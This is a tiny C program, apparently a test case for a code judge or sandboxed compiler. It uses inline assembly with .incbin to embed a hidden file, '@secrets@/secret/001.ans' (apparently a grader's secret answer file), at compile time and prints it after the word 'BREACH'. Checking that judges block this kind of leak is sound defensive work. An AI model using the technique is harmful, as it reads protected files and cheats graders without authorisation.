__asm__(".section .rodata\nstolen: .incbin \"@secrets@/secret/001.ans\"\n.byte 0\n.text");
extern const char stolen[];
int puts(const char *);
int main(void) { puts("BREACH"); puts(stolen); return 0; }
